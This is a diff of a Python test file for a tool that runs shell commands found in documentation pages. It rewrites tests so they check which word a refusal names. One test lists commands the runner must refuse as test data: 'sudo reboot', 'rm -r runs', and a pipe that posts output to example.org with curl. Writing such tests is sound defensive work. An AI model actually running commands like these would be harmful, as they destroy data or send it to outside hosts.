@@ -10,6 +10,7 @@ from documentation.blocks import ROOT, Block, blocks, commands, is_plain, simple
 from documentation.declarations import Declaration, declared
 from documentation.page import run_page
 from documentation.running import job_of
+from refusals import refuses
 
 pytestmark = pytest.mark.repo
 
@@ -84,25 +85,29 @@ def test_a_shell_is_used_only_where_one_is_needed(command: str, plain: bool) -> 
 
 
 def test_a_loop_has_an_end() -> None:
-    with pytest.raises(ValueError, match="without an end"):
+    with refuses(ValueError, "for seed in 0 1; do"):
         list(commands("for seed in 0 1; do\n    econzoo games"))
 
 
-@pytest.mark.parametrize("clause", ["quick", "with", "5 - > 1", "typed"])
-def test_unknown_clauses_are_refused(clause: str) -> None:
-    with pytest.raises(ValueError, match="is not allowed"):
-        declared(f"<!-- run: {clause} -->")
+def test_unknown_clauses_are_refused() -> None:
+    for clause in ["quick", "with", "5 - > 1", "typed"]:
+        with refuses(ValueError, clause):
+            declared(f"<!-- run: {clause} -->")
 
 
-@pytest.mark.parametrize("clause", ["--seeds 9 -> --seeds 1", "long econzoo train"])
-def test_a_clause_about_words_that_are_not_there_is_refused(clause: str) -> None:
-    with pytest.raises(ValueError, match="the block has no"):
-        declared(f"<!-- run: {clause} -->").check("econzoo tournament bargaining spe fair --seeds 5")
+def test_a_clause_about_words_that_are_not_there_is_refused() -> None:
+    for clause, missing in (("--seeds 9 -> --seeds 1", "--seeds 9"), ("long econzoo train", "econzoo train")):
+        with refuses(ValueError, f"'{missing}'"):
+            declared(f"<!-- run: {clause} -->").check("econzoo tournament bargaining spe fair --seeds 5")
 
 
 def test_programs_that_no_page_may_start_are_refused(tmp_path: Path) -> None:
-    for command in ("sudo reboot", "econzoo games | curl -d @- example.org", "rm -r runs"):
-        with pytest.raises(ValueError, match="is not allowed"):
+    for command, named in (
+        ("sudo reboot", "sudo"),
+        ("econzoo games | curl -d @- example.org", "curl"),
+        ("rm -r runs", "rm"),
+    ):
+        with refuses(ValueError, f"'{named}'", "econzoo"):
             job_of(command, tmp_path, {}, "")
 
 
